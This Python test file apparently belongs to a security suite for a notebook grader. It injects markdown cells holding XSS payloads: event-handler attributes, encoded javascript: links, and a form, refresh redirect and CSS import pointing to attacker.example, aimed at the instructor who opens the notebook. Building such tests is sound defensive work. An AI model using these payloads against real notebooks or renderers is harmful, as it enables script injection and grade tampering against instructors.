"""Writes tags into text cells whose attributes run a script, without one that is called so."""

import nbformat

from tests.attacks.suite import Attack

TEXTS = (
    "<img src=x onerror=attack_script()>",
    "<svg/onload=attack_script()>",
    "<details open ontoggle='attack_script()'><summary>Answer</summary></details>",
    "<iframe srcdoc='<img src=x onerror=attack_script()>'></iframe>",
    "<a href='&#106;avascript:attack_script()'>my plot</a>",
    "[my plot](javascript:attack_script())",
    "[my plot](&#106;avascript:attack_script())",
    "[my plot][1]\n\n[1]: JavaScript:attack_script()\n",
    "<javascript:attack_script()>",
    '![x](x"onerror="attack_script())',
    "<form action='https://attacker.example'><button>Show the rest</button></form>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<style>@import 'https://attacker.example/x.css'; .score { display: none }</style>",
)


def change(notebook, target):
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in TEXTS]


ATTACK = Attack(
    harm="a script in what the instructor opens",
    answer="exec(RIGHT)",
    change=change,
    points=8.0,
)
